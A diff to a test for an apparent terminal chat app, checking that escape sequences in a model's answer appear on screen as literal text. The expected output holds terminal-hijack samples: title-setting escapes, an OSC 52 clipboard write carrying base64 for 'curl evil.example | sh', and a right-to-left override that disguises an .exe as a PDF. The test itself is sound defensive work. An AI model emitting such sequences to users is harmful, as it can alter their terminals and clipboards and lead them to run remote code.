@@ -61,9 +61,12 @@ describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as tex
       { finish: 'stop', usage },
     ]))
     const terminal = await openApp(home, cwd)
-    // Ctrl-O first: the step prints with its reasoning shown, drawn the same way.
+    // Ctrl-O before Enter: the step prints with its reasoning shown, drawn the same way. It is
+    // pressed once the typed text shows, so the app is known to be reading keys by then.
+    terminal.type('answer with escapes')
+    await terminal.waitFor(screen => screen.includes('answer with escapes'), { what: 'the typed text' })
     terminal.keys('C-o')
-    await send(terminal, 'answer with escapes')
+    terminal.keys('Enter')
     const history = await terminal.waitFor(/── 1 step · /, { what: 'the turn summary', history: true })
     // The answer wraps at 80 columns: its rows read as one line.
     expect(history.replace(/\n/g, ' ')).toContain('Here it is.␛]0;pwned-answer␇ bold ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ report<U+202E>fdp.exe ␛]2;pwned-code␇')
